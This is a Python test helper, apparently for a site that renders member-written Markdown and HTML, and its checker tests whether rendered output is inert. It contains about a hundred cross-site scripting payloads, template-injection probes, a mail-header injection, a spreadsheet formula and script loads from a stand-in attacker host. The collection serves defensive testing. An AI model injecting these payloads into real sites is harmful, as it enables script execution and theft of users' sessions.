"""Texts that try to run a script where they are shown. Post them into every field.

`PAYLOADS` call `xss()` or `alert()` where a page is careless; `is_inert` judges a piece of HTML.
"""

from html.parser import HTMLParser

PAYLOADS = (
    "<script>xss()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "</script><script>xss()</script>",
    "<script\x0d\x0a>xss()</script\x20>",
    "<svg/onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:xss()><text x=20 y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=xss()&gt;'>",
    "<math href=javascript:xss()>x</math>",
    "<img src=x onerror=xss()>",
    "<img src=x onerror='xss()'//",
    "<img/src='x'/onerror=xss()>",
    "<img src=`x`onerror=xss()>",
    '"><img src=x onerror=xss()>',
    "'><img src=x onerror=xss()>",
    "' onmouseover='xss()' x='",
    '" onfocus="xss()" autofocus="',
    '" style="animation-name:x" onanimationstart="xss()" x="',
    "` onmouseover=xss() `",
    "<body onload=xss()>",
    "<input autofocus onfocus=xss()>",
    "<select autofocus onfocus=xss()>",
    "<details open ontoggle=xss()>",
    "<video><source onerror=xss()></video>",
    "<video src=x onerror=xss()>",
    "<audio src=x onerror=xss()>",
    "<marquee onstart=xss()>",
    "<iframe src=javascript:xss()></iframe>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<object data=javascript:xss()>",
    "<embed src=javascript:xss()>",
    "<form action=javascript:xss()><button>x</button></form>",
    "<button formaction=javascript:xss() form=composer>x</button>",
    "<isindex action=javascript:xss() type=image>",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(javascript:xss())'>x</div>",
    "<p style=\"x:expression(xss())\">x</p>",
    "<a href=javascript:xss()>x</a>",
    "<a href='jav&#x09;ascript:xss()'>x</a>",
    "<a href=data:text/html,<script>xss()</script>>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<textarea></textarea><img src=x onerror=xss()>",
    "</title><script>xss()</script>",
    "</textarea><script>xss()</script>",
    "<!--><img src=x onerror=xss()>-->",
    "<![CDATA[<script>xss()</script>]]>",
    "<?xml version='1.0'?><script>xss()</script>",
    "<xss id=x tabindex=1 onactivate=xss()></xss>",
    "<template><script>xss()</script></template>",
    "<wl-dialog hx-on:click=xss()>x</wl-dialog>",
    "<div hx-get=/me/settings/ hx-trigger=load>x</div>",
    "[x](javascript:xss())",
    "[x](JaVaScRiPt:xss())",
    "[x](java\tscript:xss())",
    "[x](java&#10;script:xss())",
    "[x](&#106;avascript:xss())",
    "[x](\x01javascript:xss())",
    "[x](vbscript:xss())",
    "[x](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)",
    "[x](<javascript:xss()>)",
    "[x](//evil.example/%0d%0aSet-Cookie:a=b)",
    "[x](/\\evil.example)",
    "[x]: javascript:xss()\n\n[x]",
    "<javascript:xss()>",
    "<https://a.example/\"onmouseover=\"xss()>",
    "![x](javascript:xss())",
    "![x](x\"onerror=\"xss())",
    "![x\" onerror=\"xss()](/media/abc/480.webp)",
    "![x](/media/abc/1x1.webp\" onerror=\"xss())",
    "![x](/media/abc/480.webp 'x\" onerror=\"xss()')",
    "![x](/media/../in/)",
    "![x](/media/abc/%2e%2e/%2e%2e/out/)",
    "[v](/media/abc/x\"autoplay onplay=xss() y.mp4)",
    "```\"><script>xss()</script>\nx\n```",
    "```js onload=xss()\nx\n```",
    "`<script>xss()</script>`",
    "    <script>xss()</script>",
    "| <script>xss()</script> |\n|-|\n| <img src=x onerror=xss()> |",
    "- [x] <img src=x onerror=xss()>",
    "# <img src=x onerror=xss()>",
    "> <img src=x onerror=xss()>",
    "http://a.example/\"onmouseover=xss()//",
    "http://a.example/<script>xss()</script>",
    "@<img src=x onerror=xss()>",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;script&#62;xss()&#60;/script&#62;",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "%(name)s %s {0} {name.__class__}",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+xss()//'>",
    "\u202e<script>xss()</script>",
    "\ufeff<script>xss()</script>",
    "\uff1cscript\uff1exss()\uff1c/script\uff1e",
    "<ſcript>xss()</ſcript>",
    "line\u2028<script>xss()</script>\u2029",
    "\ud800<script>xss()</script>",
    "nul\x00<scr\x00ipt>xss()</script>",
    "http://evil.example name\r\nBcc: all@weilu.example",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
)  # fmt: skip
ADDRESSES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "srcset",
    "background",
}
RUNNING = {
    "script",
    "iframe",
    "object",
    "embed",
    "base",
    "meta",
    "link",
    "style",
    "form",
    "svg",
}
SCHEMES = ("http:", "https:", "mailto:", "/", "#", "?", "")


def is_inert(html: str) -> bool:
    """Tell whether a piece of a page made of members' words runs nothing and loads nothing odd."""
    judge = _Judge()
    judge.feed(html)
    judge.close()
    return not judge.faults


class _Judge(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in RUNNING or ":" in tag or tag.startswith("wl-"):
            self.faults.append(tag)
        for name, value in attrs:
            if name.startswith(("on", "hx-", "data-hx")) or name in (
                "style",
                "id",
                "srcdoc",
            ):
                self.faults.append(name)
            if name in ADDRESSES and not _is_harmless((value or "").strip().lower()):
                self.faults.append(f"{name}={value}")


def _is_harmless(address: str) -> bool:
    scheme, colon, _rest = address.partition(":")
    return not colon or f"{scheme}:" in SCHEMES or address.startswith(("/", "#", "?"))
